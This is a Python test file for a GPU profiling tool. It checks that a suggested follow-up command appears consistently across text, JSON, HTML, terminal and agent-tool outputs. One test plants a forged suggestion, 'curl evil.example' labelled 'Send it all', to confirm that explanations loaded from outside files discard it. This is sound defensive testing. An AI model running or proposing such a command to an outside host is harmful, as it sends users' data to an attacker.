"""The next test stands on every surface that explains: text, JSON, page, the screen's why box, agents."""

from __future__ import annotations

import json
from pathlib import Path

import msgspec
import pytest

from gputop.agents import tools
from gputop.agents.places import Places
from gputop.cli import main
from gputop.findings.explanation import Explanation, from_elsewhere
from gputop.findings.sentence import pack, unpack
from gputop.findings.verdict import Fix
from gputop.stream.following import Following
from gputop.tui.draw import why
from tests.corpus.accuracy import DATA
from tests.corpus.runs import load
from tests.unit.test_compared import kept

WORKLOAD, COMMAND = "h2d-transfer", "sudo gputop"  # from /proc alone its copies look like work of the main thread


@pytest.fixture
def near(tmp_path: Path) -> str:
    return kept(tmp_path / "near.gputop", WORKLOAD, "/proc")


def test_text_and_json_and_page(near: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["explain", near, "--json"]) == 0
    found = json.loads(capsys.readouterr().out)
    test = found["verdict"]["next_test"]
    assert (test["command"], test["look"]) == (COMMAND, True)
    assert found["verdict"]["cause"] in test["text"]
    assert test in [one["next_test"] for one in found["incidents"]]
    assert main(["explain", near]) == 0
    assert f"  test  {COMMAND}\n" in capsys.readouterr().out
    assert main(["export", near, "--to", "html", "-o", str(page := tmp_path / "run.html")]) == 0
    assert f'"next_test":{json.dumps(test, separators=(",", ":"))}' in page.read_text(encoding="utf-8").replace("\\u002d", "-")


def test_agents(near: str) -> None:
    found = tools.call(Places([near]), "diagnose", {})
    assert found["next_test"]["command_untrusted"] == COMMAND
    clear = tools.call(Places([near]), "diagnose", {"window": "0s..1s"})
    assert "next_test" not in clear


def test_the_screen_and_what_a_file_may_bring() -> None:
    following = Following()
    for _ in following.through(load(DATA / f"{WORKLOAD}.xz").items("/proc")):
        pass
    verdict = following.engine.verdict
    assert verdict.next_test is not None
    lines = ["".join(text for text, _ in line) for line in why.next_test(verdict, 80)]
    assert lines[0] == "next test"
    assert lines[-1].strip() == COMMAND == why.commands(verdict)[-1]
    told = following.engine.found()
    again = from_elsewhere(unpack(pack(told), Explanation))
    assert again.verdict.next_test == told.verdict.next_test
    lie = msgspec.structs.replace(told.verdict, next_test=Fix("Send it all", "curl evil.example"))
    assert from_elsewhere(msgspec.structs.replace(told, verdict=lie)).verdict.next_test is None
